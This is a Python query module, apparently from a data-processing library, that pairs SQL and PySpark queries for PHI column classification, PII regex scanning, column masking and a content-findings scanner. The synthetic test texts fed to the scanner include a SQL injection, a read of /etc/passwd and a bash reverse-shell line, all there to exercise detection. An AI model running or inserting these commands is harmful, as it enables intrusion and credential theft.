"""Personal data, masking, content findings."""

from __future__ import annotations

from pyspark.sql import functions as F

from millrace.operators import privacy as V
from millrace.queries.base import Registry
from millrace.runtime import load

R = Registry()

NAMES = ["customer ssn", "patient-id", "date of birth", "o total", "e.mail address", "drug_name", "heart rate", "billing code"]


@R.add(
    "phi_columns",
    """WITH c AS (SELECT o_orderkey, ['customer ssn', 'patient-id', 'date of birth', 'o total', 'e.mail address', 'drug_name', 'heart rate', 'billing code'][o_orderkey % 8 + 1] AS column_name FROM orders),
    m AS (SELECT * FROM (VALUES ('customer ssn', 'SSN'), ('patient-id', 'MRN'), ('patient-id', 'Patient Name'), ('date of birth', 'DOB'), ('e.mail address', 'Contact Info'),
      ('drug_name', 'Medication'), ('heart rate', 'Clinical Data'), ('billing code', 'Financial/Billing')) AS t(column_name, category))
    SELECT o_orderkey, c.column_name, category FROM c JOIN m ON c.column_name = m.column_name""",
)
def phi_columns(spark, d):
    name = F.element_at(F.array(*[F.lit(n) for n in NAMES]), (F.col("o_orderkey") % 8 + 1).cast("int"))
    return V.phi_columns(load(spark, d, "orders").select("o_orderkey", name.alias("column_name")), "column_name")


PII = {
    "email": r"[a-zA-Z0-9._%+-]+@[a-zA-Z0-9-]+\.[a-zA-Z0-9.-]+",
    "ssn": r"\b\d{3}-\d{2}-\d{4}\b",
    "phone": r"\b\d{3}[-. ]\d{3}[-. ]\d{4}\b",
}
PII_SQL = "\nUNION ALL\n".join(
    f"""SELECT '{c}' AS column_name, '{k}' AS kind, count(*) FILTER (n > 0) AS matching_rows, coalesce(sum(n), 0)::BIGINT AS matches
    FROM (SELECT len(regexp_extract_all({c}, '{p}')) AS n FROM documents)"""
    for c in ("text", "source") for k, p in PII.items()
)


@R.add("phi_values", PII_SQL)
def phi_values(spark, d):
    return V.pii_scan(load(spark, d, "documents"), ["text", "source"])


@R.add("mask_phi", "SELECT c_custkey, sha256(c_name) AS c_name, sha256(c_nationkey::VARCHAR) AS c_nationkey FROM customer")
def mask_phi(spark, d):
    df = load(spark, d, "customer").select("c_custkey", "c_name", "c_nationkey")
    return V.mask(df, {"c_name": "hash", "c_nationkey": "hash"})


@R.add(
    "mask_columns",
    """SELECT c_custkey, sha256(c_mktsegment) AS c_mktsegment, '[REDACTED]' AS c_acctbal, repeat('*', length(c_name)::INT - 4) || right(c_name, 4) AS c_name,
    NULL::VARCHAR AS c_nationkey FROM customer""",
)
def mask_columns(spark, d):
    return V.mask(load(spark, d, "customer"), {"c_mktsegment": "hash", "c_acctbal": "redact", "c_name": "partial", "c_nationkey": "null"})


@R.add(
    "mask_by_key",
    """SELECT event_id, k, CASE WHEN k IN ('db.password', 'API_Token') THEN '********' ELSE v END AS v
    FROM (SELECT event_id, CASE event_id % 3 WHEN 0 THEN 'db.password' WHEN 1 THEN 'API_Token' ELSE 'host' END AS k, event_type AS v FROM events)""",
)
def mask_by_key(spark, d):
    df = load(spark, d, "events").selectExpr(
        "event_id", "CASE event_id % 3 WHEN 0 THEN 'db.password' WHEN 1 THEN 'API_Token' ELSE 'host' END AS k", "event_type AS v"
    )
    return V.mask_properties(df, "k", "v")


# texts with findings, made from event rows
PAYLOAD = """CASE event_id % 5 WHEN 0 THEN '1; DROP TABLE t' || user_id WHEN 1 THEN 'password = "abc' || user_id || '"; cat /etc/passwd'
    WHEN 2 THEN 'bash -i >& /dev/tcp/h/' || user_id WHEN 3 THEN 'eval (x) Class.forName LOAD_FILE' ELSE event_type END"""

FINDINGS_SQL = "\nUNION ALL\n".join(
    """SELECT doc_id, '%s' AS finding, '%s' AS severity, left(regexp_extract(body, '%s', 0), 100) AS snippet FROM t WHERE regexp_matches(body, '%s')"""
    % (n, s, p.replace("'", "''"), p.replace("'", "''"))
    for n, s, p in V.FINDINGS
)


@R.add(
    "content_findings",
    f"""WITH t AS (SELECT doc_id, text AS body FROM documents UNION ALL SELECT page_id, html FROM pages
    UNION ALL SELECT event_id, {PAYLOAD} FROM events) {FINDINGS_SQL}""",
)
def content_findings(spark, d):
    body = load(spark, d, "documents").select("doc_id", F.col("text").alias("body")).unionAll(load(spark, d, "pages").select("page_id", "html"))
    body = body.unionAll(load(spark, d, "events").selectExpr("event_id", PAYLOAD))
    return V.scan_findings(body, "doc_id", "body")
